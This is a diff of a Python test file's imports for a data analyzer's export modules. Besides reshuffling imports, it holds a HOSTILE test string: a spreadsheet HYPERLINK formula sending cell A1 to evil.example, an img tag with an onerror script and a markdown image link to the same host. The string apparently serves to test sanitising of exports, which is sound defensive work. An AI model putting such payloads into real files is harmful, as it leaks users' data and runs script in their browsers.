@@ -10,15 +10,15 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from analyzer.answer_records import Answer, Citation, Claim, Count, Number, Plan, Row, Status, Table, Task
+from analyzer.answer_records import Answer, Count, Number, Plan, Row, Status, Table, Task
 from analyzer.errors import UsageError
 from analyzer.exports.answer_html import answer_html
 from analyzer.exports.answer_sheets import answer_sheets
 from analyzer.exports.method import Method
 from analyzer.exports.pictures import picture
-from analyzer.exports.workbook import FORMULA, safe_text, workbook_bytes
-from analyzer.exports.written import write_whole
-from analyzer.records import Hit
+from analyzer.exports.workbook import workbook_bytes
+from analyzer.store.output_files import FORMULA, safe_text, write_whole
+from analyzer.types import Citation, Claim, Hit
 
 HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1) <img src=http://evil.example/x onerror=alert(1)> ![x](http://evil.example)'
 METHOD = Method(
